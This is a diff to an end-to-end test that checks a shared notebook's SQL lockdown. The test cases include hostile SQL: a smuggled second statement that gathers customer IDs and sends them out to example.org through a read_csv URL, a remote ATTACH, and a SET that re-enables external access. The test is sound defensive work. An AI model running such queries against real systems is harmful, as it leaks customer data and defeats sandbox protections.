@@ -85,13 +85,15 @@ test('a share link reopens the notebook locked down; uploads still load; trustin
   await firstCellShows(b.page, /^13 rows/); // the sample data loaded under the lockdown (registered uploads), quarterly
 
   // Someone else's SQL cannot reach the network, attach remote databases or unlock settings.
-  // (A cell's SQL becomes a view, so bare ATTACH / SET are not queries; smuggled in after a
-  // SELECT as a second statement they reach DuckDB, and the lockdown refuses them.)
+  // The lockdown refuses the query; statements (ATTACH, SET) and second statements after a ";"
+  // never reach DuckDB from a cell (src/notebook/cell-sql.ts; the lockdown refusing them is
+  // tested on the engine in test/engine/lockdown.test.ts).
   for (const [sql, expect] of [
     ["SELECT * FROM read_csv('https://example.org/x.csv')", /Permission Error|disabled/i],
-    ["SELECT 1 AS x; SET VARIABLE leak = (SELECT string_agg(customer_id, ',') FROM orders); SELECT * FROM read_csv('https://example.org/?d=' || getvariable('leak'))", /Permission Error|disabled/i],
-    ["SELECT 1 AS x; ATTACH 'https://example.org/remote.duckdb' AS remote", /Permission Error|disabled|lock/i],
-    ['SELECT 1 AS x; SET enable_external_access=true', /lock|configuration|cannot/i],
+    ["SELECT 1 AS x; SET VARIABLE leak = (SELECT string_agg(customer_id, ',') FROM orders); SELECT * FROM read_csv('https://example.org/?d=' || getvariable('leak'))", /holds one query/],
+    ["SELECT 1 AS x; ATTACH 'https://example.org/remote.duckdb' AS remote", /holds one query/],
+    ["ATTACH 'https://example.org/remote.duckdb' AS remote", /ATTACH statements are not run from cells/],
+    ['SET enable_external_access=true', /SET statements are not run from cells/],
   ]) {
     const cell = await addSql(b.page, sql);
     const err = cell.locator('[data-testid="cell-error"]');
